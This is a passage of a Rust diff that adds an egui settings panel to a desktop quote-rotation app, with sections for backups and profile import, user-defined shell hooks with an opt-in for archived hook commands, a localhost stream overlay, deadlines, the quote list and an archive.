+                            .changed()
+                        {
+                            state.save();
+                        }
+                        let resp = ui.add_enabled(
+                            state.focus_dim,
+                            egui::Slider::new(&mut state.focus_dim_level, FOCUS_DIM_RANGE)
+                                .custom_formatter(|v, _| format!("{:.0}%", v * 100.0))
+                                .step_by(0.05),
+                        );
+                        if resp.drag_stopped() || (resp.changed() && !resp.dragged()) {
+                            state.save();
+                        }
+                    });
+
+                    ui.horizontal(|ui| {
+                        let mut capture = state.clipboard_watcher.is_some();
+                        let label = if capture {
+                            RichText::new("📋 Clipboard capture (ON)")
+                                .color(Color32::from_rgb(255, 60, 80))
+                                .strong()
+                        } else {
+                            RichText::new("📋 Clipboard capture")
+                        };
+                        if ui
+                            .checkbox(&mut capture, label)
+                            .on_hover_text("Offers copied text (10–300 characters) as a new quote")
+                            .changed()
+                        {
+                            state.set_clipboard_capture(capture);
+                        }
+                        ui.label(RichText::new("off after").color(Color32::GRAY).size(10.5));
+                        let resp = ui.add(
+                            egui::DragValue::new(&mut state.clipboard_capture_minutes)
+                                .range(1..=480)
+                                .suffix(" min"),
+                        );
+                        if resp.drag_stopped() || (resp.changed() && !resp.dragged()) {
+                            state.save();
+                        }
+                    });
+
+                    label_with_glow(
+                        ui,
+                        "Default sub text (blank = none):",
+                        Color32::from_rgb(140, 200, 255),
+                        10.5,
+                        shade(120),
+                        egui::Align2::LEFT_CENTER,
+                    );
+                    let resp = ui.add(
+                        egui::TextEdit::singleline(&mut state.default_sub_text)
+                            .hint_text("no sub text")
+                            .desired_width(f32::INFINITY),
+                    );
+                    if resp.changed() {
+                        state.save();
+                    }
+
+                    ui.add_space(6.0);
+                    label_with_glow(
+                        ui,
+                        "Window corner hotspots:",
+                        Color32::from_rgb(140, 200, 255),
+                        10.5,
+                        shade(120),
+                        egui::Align2::LEFT_CENTER,
+                    );
+                    let mut hotspots_changed = false;
+                    for (corner, spot) in
+                        ScreenCorner::ALL.into_iter().zip(state.hotspots.iter_mut())
+                    {
+                        ui.horizontal(|ui| {
+                            ui.label(
+                                RichText::new(corner.label())
+                                    .color(Color32::GRAY)
+                                    .size(10.5),
+                            );
+                            egui::ComboBox::from_id_salt(("hotspot_trigger", corner.label()))
+                                .width(80.0)
+                                .selected_text(spot.trigger.label())
+                                .show_ui(ui, |ui| {
+                                    for option in HotspotTrigger::ALL {
+                                        hotspots_changed |= ui
+                                            .selectable_value(
+                                                &mut spot.trigger,
+                                                option,
+                                                option.label(),
+                                            )
+                                            .changed();
+                                    }
+                                });
+                            egui::ComboBox::from_id_salt(("hotspot_action", corner.label()))
+                                .selected_text(spot.action.label())
+                                .show_ui(ui, |ui| {
+                                    for option in AppAction::ALL {
+                                        hotspots_changed |= ui
+                                            .selectable_value(
+                                                &mut spot.action,
+                                                option,
+                                                option.label(),
+                                            )
+                                            .changed();
+                                    }
+                                });
+                        });
+                    }
+                    if hotspots_changed {
+                        state.save();
+                    }
+
+                    ui.add_space(6.0);
+                    label_with_glow(
+                        ui,
+                        "Backups:",
+                        Color32::from_rgb(140, 200, 255),
+                        10.5,
+                        shade(120),
+                        egui::Align2::LEFT_CENTER,
+                    );
+                    if let Some(restore) = &mut state.pending_restore {
+                        let created = restore.created.map_or("an unknown date".to_string(), |c| {
+                            c.format("%Y-%m-%d %H:%M").to_string()
+                        });
+                        ui.label(
+                            RichText::new(format!(
+                                "Replace all settings with {} quotes from {}?",
+                                restore.quotes, created
+                            ))
+                            .color(ui_fg(ui.visuals()))
+                            .size(10.5),
+                        );
+                        // What a profile bundle overwrites besides the quotes
+                        if let Some(version) = &restore.made_by {
+                            let mut replaced = vec![
+                                format!("made by version {version}"),
+                                format!(
+                                    "theme, time-of-day bands and {} profile(s)",
+                                    restore.config.profiles.len()
+                                ),
+                            ];
+                            if let Some((name, _)) = &restore.font {
+                                replaced.push(format!("font {name}"));
+                            }
+                            ui.label(
+                                RichText::new(replaced.join(" · "))
+                                    .color(Color32::from_rgba_unmultiplied(190, 190, 215, 255))
+                                    .size(10.0),
+                            );
+                        }
+                        let overwrites = restore.overwrites();
+                        if !overwrites.is_empty() {
+                            ui.label(
+                                RichText::new(format!("Overwrites: {}", overwrites.join(" · ")))
+                                    .color(Color32::from_rgba_unmultiplied(190, 190, 215, 255))
+                                    .size(10.0),
+                            );
+                        }
+                        // Hooks from the archive only with a say-so
+                        let commands = restore.commands();
+                        if !commands.is_empty() {
+                            ui.label(
+                                RichText::new(format!(
+                                    "⚠ It carries hook commands: {}",
+                                    commands.join(" · ")
+                                ))
+                                .color(Color32::from_rgb(255, 200, 100))
+                                .size(10.0),
+                            );
+                            ui.checkbox(
+                                &mut restore.install_commands,
+                                "Install these commands (they run on this computer)",
+                            )
+                            .on_hover_text("Unchecked, the hook commands set up here stay");
+                        }
+                        ui.horizontal(|ui| {
+                            if ui
+                                .button(
+                                    RichText::new("Yes, Replace")
+                                        .color(ui_fg(ui.visuals()))
+                                        .size(10.5),
+                                )
+                                .clicked()
+                            {
+                                state.restore_backup();
+                            }
+                            if ui
+                                .button(
+                                    RichText::new("Cancel")
+                                        .color(Color32::from_rgba_unmultiplied(190, 190, 215, 255))
+                                        .size(10.5),
+                                )
+                                .clicked()
+                            {
+                                state.pending_restore = None;
+                            }
+                        });
+                    } else {
+                        ui.horizontal(|ui| {
+                            let half = (ui.available_width() - 6.0) / 2.0;
+                            if draw_text_button(
+                                ui,
+                                "Create backup",
+                                Color32::from_rgb(40, 140, 200),
+                                half,
+                                24.0,
+                                accents.primary,
+                            )
+                            .clicked()
+                            {
+                                pick_backup_file(state);
+                            }
+                            if draw_text_button(
+                                ui,
+                                "Restore backup",
+                                Color32::from_rgb(120, 90, 200),
+                                half,
+                                24.0,
+                                accents.primary,
+                            )
+                            .clicked()
+                            {
+                                pick_restore_file(state);
+                            }
+                        });
+                        ui.horizontal(|ui| {
+                            let half = (ui.available_width() - 6.0) / 2.0;
+                            if draw_text_button(
+                                ui,
+                                "Export profile",
+                                Color32::from_rgb(40, 140, 200),
+                                half,
+                                24.0,
+                                accents.primary,
+                            )
+                            .on_hover_text(
+                                "Settings, theme and the Bengali font, to move to a new PC",
+                            )
+                            .clicked()
+                            {
+                                pick_profile_export_file(state);
+                            }
+                            if draw_text_button(
+                                ui,
+                                "Import profile",
+                                Color32::from_rgb(120, 90, 200),
+                                half,
+                                24.0,
+                                accents.primary,
+                            )
+                            .clicked()
+                            {
+                                pick_profile_import_file(state);
+                            }
+                        });
+                    }
+                    if ui
+                        .checkbox(&mut state.auto_backup, "Weekly automatic backups")
+                        .on_hover_text(format!(
+                            "Keeps the last {} in the \"{}\" folder",
+                            AUTO_BACKUP_KEEP, AUTO_BACKUP_DIR
+                        ))
+                        .changed()
+                    {
+                        state.save();
+                    }
+                    if ui
+                        .checkbox(&mut state.check_updates, "Check for updates")
+                        .on_hover_text(format!(
+                            "Once a day, asks GitHub for a release newer than {} and \
+                         links to it; nothing is downloaded",
+                            env!("CARGO_PKG_VERSION")
+                        ))
+                        .changed()
+                    {
+                        state.save();
+                    }
+
+                    ui.horizontal(|ui| {
+                        let toggled = ui
+                            .checkbox(&mut state.overlay_enabled, "Stream overlay on port")
+                            .on_hover_text(
+                                "Serves the quote to OBS and the like, on this computer only",
+                            )
+                            .changed();
+                        let port = ui.add_enabled(
+                            state.overlay_enabled,
+                            egui::DragValue::new(&mut state.overlay_port_input).range(1024..=65535),
+                        );
+                        // Each port passed on the way would restart the server
+                        let picked = (port.drag_stopped() || port.lost_focus())
+                            && state.overlay_port_input != state.overlay_port;
+                        if picked {
+                            state.overlay_port = state.overlay_port_input;
+                        }
+                        if toggled || picked {
+                            state.overlay_failed_port = None;
+                            state.save();
+                        }
+                    });
+                    if state.overlay_enabled {
+                        let page = format!("http://127.0.0.1:{}/current.html", state.overlay_port);
+                        ui.hyperlink_to(RichText::new(&page).size(10.0), &page)
+                            .on_hover_text(
+                                "Add this as a Browser source; /current.json has the text",
+                            );
+                    }
+
+                    ui.add_space(6.0);
+                    if ui
+                        .button(
+                            RichText::new("Show tips again")
+                                .color(Color32::from_rgba_unmultiplied(190, 190, 215, 255))
+                                .size(10.5),
+                        )
+                        .on_hover_text("The first-run walkthrough: themes, sample quotes, gestures")
+                        .clicked()
+                    {
+                        state.onboarding = Some(OnboardingStep::ALL[0]);
+                    }
+                },
+            );
+
+            ui.add_space(10.0);
+
+            // ===== Sound Section =====
+            render_section(ui, &mut sections, "sound", "SOUND", None, accents, |ui| {
+                let sounds = [
+                    (
+                        &mut state.sound_on_rotate,
+                        "Chime when the quote changes",
+                        Sound::Rotate,
+                    ),
+                    (
+                        &mut state.sound_on_complete,
+                        "Sound when a deadline is reached",
+                        Sound::Complete,
+                    ),
+                ];
+                let mut changed = false;
+                let mut preview = None;
+                for (enabled, label, sound) in sounds {
+                    ui.horizontal(|ui| {
+                        changed |= ui.checkbox(enabled, label).changed();
+                        if ui.small_button("▶").on_hover_text("Preview").clicked() {
+                            preview = Some(sound);
+                        }
+                    });
+                }
+                ui.horizontal(|ui| {
+                    ui.label(RichText::new("Volume").color(Color32::GRAY).size(11.0));
+                    let resp = ui.add(
+                        egui::Slider::new(&mut state.sound_volume, 0.0..=1.0)
+                            .custom_formatter(|v, _| format!("{:.0}%", v * 100.0))
+                            .step_by(0.05),
+                    );
+                    changed |= resp.drag_stopped() || (resp.changed() && !resp.dragged());
+                });
+                if let Some(sound) = preview {
+                    state.play_sound(sound);
+                }
+                if changed {
+                    state.save();
+                }
+            });
+
+            ui.add_space(10.0);
+
+            // ===== Hooks Section =====
+            render_section(ui, &mut sections, "hooks", "HOOKS", None, accents, |ui| {
+                let hooks = [
+                    (
+                        &mut state.on_rotate_command,
+                        "Run when the quote changes:",
+                        "rotate",
+                    ),
+                    (
+                        &mut state.on_session_complete_command,
+                        "Run when a deadline is reached:",
+                        "session_complete",
+                    ),
+                ];
+                let mut changed = false;
+                for (command, label, event) in hooks {
+                    label_with_glow(
+                        ui,
+                        label,
+                        Color32::from_rgb(140, 200, 255),
+                        10.5,
+                        shade(120),
+                        egui::Align2::LEFT_CENTER,
+                    );
+                    // Failed command shown in red until it's edited
+                    let failed = state.failed_hooks.contains(command.trim());
+                    let color = failed.then_some(Color32::from_rgb(255, 140, 140));
+                    let resp = ui
+                        .add(
+                            egui::TextEdit::singleline(command)
+                                .hint_text("shell command")
+                                .text_color_opt(color)
+                                .desired_width(f32::INFINITY),
+                        )
+                        .on_hover_text(format!(
+                            "Runs through the shell (cmd on Windows) with:\n\
+                             DM_MAIN_TEXT  main text of the current quote\n\
+                             DM_SUB_TEXT   its sub text\n\
+                             DM_INDEX      its position in the collection, from 1\n\
+                             DM_EVENT      \"{}\"\n\n\
+                             Stopped after {}s; output goes to debug.log. A command that \
+                             fails isn't run again until it's edited.",
+                            event,
+                            HOOK_TIMEOUT.as_secs()
+                        ));
+                    changed |= resp.lost_focus();
+                }
+                if changed {
+                    state.save();
+                }
+            });
+
+            ui.add_space(10.0);
+
+            // ===== Profiles Section =====
+            let summary = state
+                .active_profile
+                .and_then(|i| state.profiles.get(i))
+                .map(|p| p.name.clone())
+                .or_else(|| Some("none active".to_string()));
+            render_section(
+                ui,
+                &mut sections,
+                "profiles",
+                "PROFILES",
+                summary,
+                accents,
+                |ui| {
+                    let selected_text = match state.profile_selection {
+                        ProfileSelection::Automatic => "Automatic (schedule)".to_string(),
+                        ProfileSelection::Disabled => "Off (all quotes)".to_string(),
+                        ProfileSelection::Fixed(idx) => state
+                            .profiles
+                            .get(idx)
+                            .map(|p| p.name.clone())
+                            .unwrap_or_default(),
+                    };
+                    let mut selection = state.profile_selection;
+                    egui::ComboBox::from_id_salt("profile_override")
+                        .selected_text(selected_text)
+                        .width(ui.available_width() - 8.0)
+                        .show_ui(ui, |ui| {
+                            ui.selectable_value(
+                                &mut selection,
+                                ProfileSelection::Automatic,
+                                "Automatic (schedule)",
+                            );
+                            ui.selectable_value(
+                                &mut selection,
+                                ProfileSelection::Disabled,
+                                "Off (all quotes)",
+                            );
+                            for (idx, profile) in state.profiles.iter().enumerate() {
+                                ui.selectable_value(
+                                    &mut selection,
+                                    ProfileSelection::Fixed(idx),
+                                    &profile.name,
+                                );
+                            }
+                        });
+                    if selection != state.profile_selection {
+                        state.profile_selection = selection;
+                        state.refresh_profile();
+                        state.save();
+                    }
+
+                    ui.add_space(4.0);
+                    let active_name = state
+                        .active_profile
+                        .and_then(|idx| state.profiles.get(idx))
+                        .map(|p| p.name.as_str())
+                        .unwrap_or("none");
+                    label_with_glow(
+                        ui,
+                        &format!("Active: {}", active_name),
+                        Color32::from_rgb(140, 200, 255),
+                        10.5,
+                        shade(120),
+                        egui::Align2::LEFT_CENTER,
+                    );
+
+                    ui.add_space(4.0);
+                    if draw_text_button(
+                        ui,
+                        "Edit Profiles…",
+                        Color32::from_rgb(33, 150, 243),
+                        ui.available_width() - 8.0,
+                        28.0,
+                        accents.primary,
+                    )
+                    .clicked()
+                    {
+                        state.profile_editor_open = true;
+                    }
+                },
+            );
+
+            ui.add_space(10.0);
+
+            // ===== Deadlines Section =====
+            render_section(
+                ui,
+                &mut sections,
+                "deadlines",
+                &format!("DEADLINES ({})", state.deadlines.len()),
+                None,
+                accents,
+                |ui| {
+                    let now = chrono::Local::now().naive_local();
+                    let mut to_remove: Option<usize> = None;
+
+                    for (idx, deadline) in state.deadlines.iter().enumerate() {
+                        let remaining = deadline.seconds_remaining(now);
+                        egui::Frame::none()
+                            .fill(Color32::from_black_alpha(20))
+                            .inner_margin(Vec2::new(8.0, 6.0))
+                            .rounding(Rounding::same(4.0))
+                            .stroke(Stroke::new(1.0, accents.primary.gamma_multiply(0.18)))
+                            .show(ui, |ui| {
+                                ui.with_layout(
+                                    egui::Layout::right_to_left(egui::Align::Center),
+                                    |ui| {
+                                        let del_btn = ui.add(
+                                            egui::Button::new(
+                                                RichText::new("Remove")
+                                                    .color(Color32::WHITE)
+                                                    .size(10.0),
+                                            )
+                                            .fill(Color32::from_rgb(255, 70, 70))
+                                            .min_size(Vec2::new(40.0, 18.0)),
+                                        );
+                                        if del_btn.clicked() {
+                                            to_remove = Some(idx);
+                                        }
+
+                                        ui.with_layout(
+                                            egui::Layout::left_to_right(egui::Align::Min),
+                                            |ui| {
+                                                ui.vertical(|ui| {
+                                                    ui.label(
+                                                        RichText::new(format!(
+                                                            "{}  ·  {}",
+                                                            deadline.label,
+                                                            deadline.at.format("%Y-%m-%d %H:%M")
+                                                        ))
+                                                        .color(ui_fg(ui.visuals()))
+                                                        .size(10.0),
+                                                    );
+                                                    let (text, color) = if remaining >= 0 {
+                                                        (
+                                                            format_countdown(remaining),
+                                                            accents.primary.gamma_multiply(0.75),
+                                                        )
+                                                    } else {
+                                                        (
+                                                            format!(
+                                                                "elapsed {}",
+                                                                format_countdown(remaining)
+                                                            ),
+                                                            NEON_ROSE,
+                                                        )
+                                                    };
+                                                    ui.label(
+                                                        RichText::new(text).color(color).size(9.5),
+                                                    );
+                                                });
+                                            },
+                                        );
+                                    },
+                                );
+                            });
+                        ui.add_space(4.0);
+                    }
+
+                    if let Some(idx) = to_remove {
+                        state.remove_deadline(idx);
+                    }
+
+                    ui.add_space(4.0);
+                    egui::Frame::none()
+                        .fill(Color32::from_black_alpha(60))
+                        .stroke(Stroke::new(1.0, accents.primary.gamma_multiply(0.2)))
+                        .rounding(Rounding::same(4.0))
+                        .show(ui, |ui| {
+                            ui.add(
+                                egui::TextEdit::singleline(&mut state.deadline_label_input)
+                                    .hint_text("Label (e.g. Final exam)")
+                                    .desired_width(ui.available_width()),
+                            );
+                        });
+
+                    ui.add_space(4.0);
+                    ui.horizontal(|ui| {
+                        ui.add(egui_extras::DatePickerButton::new(
+                            &mut state.deadline_date_input,
+                        ));
+                        ui.add(
+                            egui::DragValue::new(&mut state.deadline_hour_input)
+                                .range(0..=23)
+                                .custom_formatter(|n, _| format!("{:02}", n as u32)),
+                        );
+                        ui.label(RichText::new(":").color(ui_fg(ui.visuals())));
+                        ui.add(
+                            egui::DragValue::new(&mut state.deadline_minute_input)
+                                .range(0..=59)
+                                .custom_formatter(|n, _| format!("{:02}", n as u32)),
+                        );
+                    });
+
+                    ui.add_space(8.0);
+                    if draw_text_button(
+                        ui,
+                        "+ Add Deadline",
+                        Color32::from_rgb(33, 150, 243),
+                        ui.available_width() - 8.0,
+                        28.0,
+                        accents.primary,
+                    )
+                    .clicked()
+                    {
+                        if let Some(at) = state.deadline_date_input.and_hms_opt(
+                            state.deadline_hour_input,
+                            state.deadline_minute_input,
+                            0,
+                        ) {
+                            let label = state.deadline_label_input.trim().to_string();
+                            state.add_deadline(label, at);
+                            state.deadline_label_input.clear();
+                        }
+                    }
+                },
+            );
+
+            ui.add_space(10.0);
+
+            // ===== Quotes List Section =====
+            render_section(
+                ui,
+                &mut sections,
+                "text_list",
+                &format!("TEXT LIST ({})", state.quotes.len()),
+                None,
+                accents,
+                |ui| {
+                    let mut to_delete: Option<usize> = None;
+                    let mut to_select: Option<usize> = None;
+                    let mut to_pin: Option<usize> = None;
+                    let mut to_rate: Option<(usize, u8)> = None;
+                    let mut to_tick: Option<usize> = None;
+                    let mut to_note: Option<usize> = None;
+                    let mut to_energy: Option<usize> = None;
+
+                    ui.horizontal(|ui| {
+                        if ui.small_button("Select all").clicked() {
+                            state.list_selection = (0..state.quotes.len()).collect();
+                        }
+                        if ui.small_button("None").clicked() {
+                            state.list_selection.clear();
+                        }
+                        if !state.list_selection.is_empty() {
+                            ui.label(
+                                RichText::new(format!("{} selected", state.list_selection.len()))
+                                    .color(accents.secondary)
+                                    .size(10.0),
+                            );
+                        }
+                        ui.with_layout(egui::Layout::right_to_left(egui::Align::Center), |ui| {
+                            if ui.small_button("Tags…").clicked() {
+                                state.tag_manager_open = true;
+                            }
+                            if ui
+                                .small_button("Sub texts…")
+                                .on_hover_text("Find repeated sub texts")
+                                .clicked()
+                            {
+                                state.sub_text_tool_open = true;
+                            }
+                        });
+                    });
+                    if !state.list_selection.is_empty() {
+                        render_bulk_actions(ui, state, accents);
+                    }
+                    ui.add_space(4.0);
+
+                    // Only the rows in view are built (and shaped), at a fixed height
+                    // so show_rows can tell which those are
+                    egui::ScrollArea::vertical()
+                        .id_salt("text_list_rows")
+                        .max_height(TEXT_LIST_MAX_HEIGHT)
+                        .auto_shrink([false, true])
+                        .show_rows(ui, TEXT_LIST_ROW_HEIGHT, state.quotes.len(), |ui, rows| {
+                            // Rough fit for the 10pt lines; labels elide exactly, this
+                            // keeps shaped textures (and their cache keys) short
+                            let line_chars =
+                                ((ui.available_width() - 90.0) / 5.0).max(8.0) as usize;
+                            for idx in rows {
+                                let quote = &state.quotes[idx];
+                                let is_current = idx == state.current_quote_index;
+                                let bg_color = if is_current {
+                                    Color32::from_black_alpha(35)
+                                } else {
+                                    Color32::from_black_alpha(20)
+                                };
+
+                                egui::Frame::none()
+                                    .fill(bg_color)
+                                    .inner_margin(Vec2::new(8.0, 6.0))
+                                    .rounding(Rounding::same(4.0))
+                                    .stroke(Stroke::new(1.0, accents.primary.gamma_multiply(0.18)))
+                                    .show(ui, |ui| {
+                                        ui.set_height(TEXT_LIST_ROW_HEIGHT - 12.0);
+                                        // Delete button goes on the very right, the text
+                                        // fills the rest
+                                        ui.with_layout(
+                                            egui::Layout::right_to_left(egui::Align::Center),
+                                            |ui| {
+                                                let del_btn = ui.add(
+                                                    egui::Button::new(
+                                                        RichText::new("Delete")
+                                                            .color(Color32::WHITE)
+                                                            .size(10.0),
+                                                    )
+                                                    .fill(Color32::from_rgb(255, 70, 70))
+                                                    .min_size(Vec2::new(40.0, 18.0)),
+                                                );
+                                                if del_btn.clicked() {
+                                                    to_delete = Some(idx);
+                                                }
+
+                                                // Pin toggle, lit on the pinned row
+                                                let pinned = state.pinned_quote == Some(idx);
+                                                let pin_color = if pinned {
+                                                    NEON_SOLAR
+                                                } else {
+                                                    Color32::from_white_alpha(70)
+                                                };
+                                                let pin_btn = ui
+                                                    .add(
+                                                        egui::Button::new(
+                                                            RichText::new("📌")
+                                                                .color(pin_color)
+                                                                .size(10.0),
+                                                        )
+                                                        .frame(false),
+                                                    )
+                                                    .on_hover_text(if pinned {
+                                                        "Unpin"
+                                                    } else {
+                                                        "Pin on screen"
+                                                    });
+                                                if pin_btn.clicked() {
+                                                    to_pin = Some(idx);
+                                                }
+
+                                                // Note: lit when there is one, its text on hover
+                                                let note_color = if quote.note().is_some() {
+                                                    accents.secondary
+                                                } else {
+                                                    Color32::from_white_alpha(40)
+                                                };
+                                                let note_btn = ui
+                                                    .add(
+                                                        egui::Button::new(
+                                                            RichText::new("📝")
+                                                                .color(note_color)
+                                                                .size(10.0),
+                                                        )
+                                                        .frame(false),
+                                                    )
+                                                    .on_hover_text(
+                                                        quote
+                                                            .note()
+                                                            .unwrap_or("Add a private note"),
+                                                    );
+                                                if note_btn.clicked() {
+                                                    to_note = Some(idx);
+                                                }
+
+                                                // Source link, opened from here too
+                                                if let Some(url) = quote.source_url() {
+                                                    let link = ui
+                                                        .add(
+                                                            egui::Button::new(
+                                                                RichText::new("🔗")
+                                                                    .color(
+                                                                        Color32::from_white_alpha(
+                                                                            150,
+                                                                        ),
+                                                                    )
+                                                                    .size(10.0),
+                                                            )
+                                                            .frame(false),
+                                                        )
+                                                        .on_hover_text(url);
+                                                    if link.clicked() {
+                                                        ui.ctx()
+                                                            .open_url(egui::OpenUrl::new_tab(url));
+                                                    }
+                                                }
+
+                                                ui.with_layout(
+                                                    egui::Layout::top_down(egui::Align::Min),
+                                                    |ui| {
+                                                        // Line 1: N. [main quote text]
+                                                        let display_main = format!(
+                                                            "{}. {}",
+                                                            idx + 1,
+                                                            ellipsize(&quote.main_text, line_chars)
+                                                        );
+                                                        if list_text_line(
+                                                            ui,
+                                                            shaper,
+                                                            &display_main,
+                                                            10.0,
+                                                            fg,
+                                                        )
+                                                        .on_hover_text(&quote.main_text)
+                                                        .clicked()
+                                                        {
+                                                            to_select = Some(idx);
+                                                        }
+
+                                                        // Line 2: 💬 [supporting text]
+                                                        let display_sub = format!(
+                                                            "💬 {}",
+                                                            ellipsize(&quote.sub_text, line_chars)
+                                                        );
+                                                        list_text_line(
+                                                            ui,
+                                                            shaper,
+                                                            &display_sub,
+                                                            9.5,
+                                                            accents.primary.gamma_multiply(0.75),
+                                                        );
+
+                                                        // Line 3: selection tick, stars, energy, #tags
+                                                        ui.horizontal(|ui| {
+                                                            let mut ticked =
+                                                                state.list_selection.contains(&idx);
+                                                            if ui
+                                                                .checkbox(&mut ticked, "")
+                                                                .changed()
+                                                            {
+                                                                to_tick = Some(idx);
+                                                            }
+                                                            if let Some(stars) = star_rating(
+                                                                ui,
+                                                                quote.rating,
+                                                                NEON_SOLAR,
+                                                            ) {
+                                                                to_rate = Some((idx, stars));
+                                                            }
+                                                            let level = quote.energy;
+                                                            let icon = RichText::new(level.icon())
+                                                                .color(Color32::from_white_alpha(
+                                                                    150,
+                                                                ))
+                                                                .size(9.5);
+                                                            let energy = ui
+                                                                .add(
+                                                                    egui::Button::new(icon)
+                                                                        .frame(false),
+                                                                )
+                                                                .on_hover_text(format!(
+                                                                    "Energy: {} (click to change)",
+                                                                    level.label()
+                                                                ));
+                                                            if energy.clicked() {
+                                                                to_energy = Some(idx);
+                                                            }
+                                                            if !quote.tags.is_empty() {
+                                                                ui.add(
+                                                                    egui::Label::new(tag_badges(
+                                                                        state,
+                                                                        &quote.tags,
+                                                                        9.0,
+                                                                    ))
+                                                                    .truncate(),
+                                                                );
+                                                            }
+                                                        });
+                                                    },
+                                                );
+                                            },
+                                        );
+                                    });
+                            }
+                        });
+
+                    // Note editor for the row whose 📝 was clicked; saved as typed
+                    if let Some(idx) = to_note {
+                        if state.note_editing == Some(idx) {
+                            state.note_editing = None;
+                        } else {
+                            state.open_note(idx);
+                        }
+                    }
+                    if let Some(idx) = state.note_editing {
+                        ui.add_space(4.0);
+                        ui.label(
+                            RichText::new(format!("📝 Note for #{}", idx + 1))
+                                .color(accents.secondary)
+                                .size(10.0),
+                        );
+                        let edit = ui.add(
+                            egui::TextEdit::multiline(&mut state.note_edit_buffer)
+                                .hint_text(
+                                    "Why you saved it, where it's from… (never shown on screen)",
+                                )
+                                .desired_rows(3)
+                                .desired_width(f32::INFINITY),
+                        );
+                        if edit.changed() {
+                            state.commit_note();
+                        }
+                        ui.horizontal(|ui| {
+                            if ui.small_button("Done").clicked() {
+                                state.note_editing = None;
+                            }
+                            if ui.small_button("Remove note").clicked() {
+                                state.note_edit_buffer.clear();
+                                state.commit_note();
+                                state.note_editing = None;
+                            }
+                        });
+                    }
+
+                    // Apply changes after iteration
+                    if let Some(idx) = to_tick {
+                        if !state.list_selection.remove(&idx) {
+                            state.list_selection.insert(idx);
+                        }
+                    }
+                    if let Some(idx) = to_delete {
+                        state.delete_quote(idx);
+                        state.save();
+                    }
+                    if let Some(idx) = to_select {
+                        state.select_quote(idx);
+                    }
+                    if let Some(idx) = to_pin {
+                        state.toggle_pin(idx);
+                    }
+                    if let Some(quote) = to_energy.and_then(|idx| state.quotes.get_mut(idx)) {
+                        quote.energy = quote.energy.cycled();
+                        state.save();
+                    }
+                    if let Some((idx, stars)) = to_rate {
+                        if let Some(quote) = state.quotes.get_mut(idx) {
+                            quote.rating = stars;
+                            state.save();
+                        }
+                    }
+                },
+            );
+
+            ui.add_space(10.0);
+
+            // ===== Clear All Section =====
+            if !state.confirm_clear_pending {
+                if draw_text_button(
+                    ui,
+                    "Clear All",
+                    Color32::from_rgb(255, 152, 0), // Orange per HTML
+                    ui.available_width(),
+                    28.0,
+                    accents.primary,
+                )
+                .clicked()
+                {
+                    state.confirm_clear_pending = true;
+                }
+            } else {
+                ui.horizontal(|ui| {
+                    label_with_glow(
+                        ui,
+                        "Are you sure?",
+                        fg,
+                        11.0,
+                        shade(140),
+                        egui::Align2::LEFT_CENTER,
+                    );
+                    if ui
+                        .button(
+                            RichText::new("Yes, Clear")
+                                .color(ui_fg(ui.visuals()))
+                                .size(10.5),
+                        )
+                        .clicked()
+                    {
+                        state.clear_quotes();
+                        state.confirm_clear_pending = false;
+                    }
+                    if ui
+                        .button(
+                            RichText::new("Cancel")
+                                .color(Color32::from_rgba_unmultiplied(190, 190, 215, 255))
+                                .size(10.5),
+                        )
+                        .clicked()
+                    {
+                        state.confirm_clear_pending = false;
+                    }
+                });
+            }
+
+            ui.add_space(10.0);
+
+            // ===== Archive Section =====
+            render_section(
+                ui,
+                &mut sections,
+                "archive",
+                &format!("ARCHIVE  [{}]", state.archived.len()),
+                None,
+                accents,
+                |ui| {
+                    egui::CollapsingHeader::new(
+                        RichText::new("Deleted quotes")
+                            .color(ui_fg(ui.visuals()))
+                            .size(10.5),
+                    )
+                    .id_salt("archive_list")
+                    .default_open(false)
+                    .show(ui, |ui| {
+                        if state.archived.is_empty() {
+                            ui.label(
+                                RichText::new("Nothing archived")
+                                    .color(Color32::GRAY)
+                                    .size(10.0),
+                            );
+                        }
+                        let mut to_restore = None;
+                        let mut to_purge = None;
+                        // Newest first
+                        for (idx, quote) in state.archived.iter().enumerate().rev() {
+                            ui.horizontal(|ui| {
+                                ui.label(
+                                    RichText::new(&quote.main_text)
+                                        .color(Color32::from_rgba_unmultiplied(190, 190, 215, 255))
+                                        .size(10.0),
+                                );
+                                ui.with_layout(
+                                    egui::Layout::right_to_left(egui::Align::Center),
+                                    |ui| {
+                                        if ui
+                                            .add(
+                                                egui::Button::new(
+                                                    RichText::new("Delete Forever")
+                                                        .color(Color32::WHITE)
+                                                        .size(9.5),
+                                                )
+                                                .fill(Color32::from_rgb(255, 70, 70)),
+                                            )
+                                            .clicked()
+                                        {
+                                            to_purge = Some(idx);
+                                        }
+                                        if ui
+                                            .small_button(
+                                                RichText::new("Restore").color(NEON_LIME).size(9.5),
+                                            )
+                                            .clicked()
+                                        {
+                                            to_restore = Some(idx);
+                                        }
+                                    },
+                                );
+                            });
+                        }
+                        if let Some(idx) = to_restore {
+                            state.restore_archived(idx);
+                        }
+                        if let Some(idx) = to_purge {
+                            state.purge_archived(idx);
+                        }
+                    });
+                },
+            );
+
+            ui.add_space(10.0);
+
+            // ===== Info Section =====
+            egui::Frame::none()
+                .fill(Color32::from_black_alpha(26))
+                .stroke(egui::Stroke::new(1.0, accents.primary.gamma_multiply(0.22)))
+                .inner_margin(Vec2::new(10.0, 10.0))
+                .rounding(Rounding::same(4.0))
+                .show(ui, |ui| {
+                    let info_color = Color32::from_rgba_unmultiplied(190, 190, 215, 255);
+                    let shadow = Color32::from_black_alpha(130);
+                    label_with_glow(
+                        ui,
+                        &format!("Current Interval: {}s", state.rotation_interval.as_secs()),
+                        info_color,
+                        10.5,
+                        shadow,
+                        egui::Align2::LEFT_CENTER,
+                    );
+                    label_with_glow(
+                        ui,
+                        &format!("Total Quotes: {}", state.quotes.len()),
+                        info_color,
+                        10.5,
+                        shadow,
+                        egui::Align2::LEFT_CENTER,
+                    );
+                    label_with_glow(
+                        ui,
+                        &format!(
+                            "Rotation: {}",
+                            if state.rotation_enabled {
+                                "Active"
+                            } else {
+                                "Paused"
+                            }
+                        ),
+                        info_color,
+                        10.5,
+                        shadow,
+                        egui::Align2::LEFT_CENTER,
+                    );
+                });
+        });
+
+    // Only the headers clicked this frame go back: something in the panel
+    // may have reloaded `section_open` in the meantime
+    let toggled: Vec<_> = sections
+        .into_iter()
+        .filter(|(key, open)| sections_before.get(key) != Some(open))
+        .collect();
+    if !toggled.is_empty() {
+        state.section_open.extend(toggled);
+        state.save();
+    }
+}
+
+/// Short label for an interval chip: 45s, 5m, 1h, 1m30s
+fn format_interval(secs: u64) -> String {
+    match (secs / 3600, secs % 3600 / 60, secs % 60) {
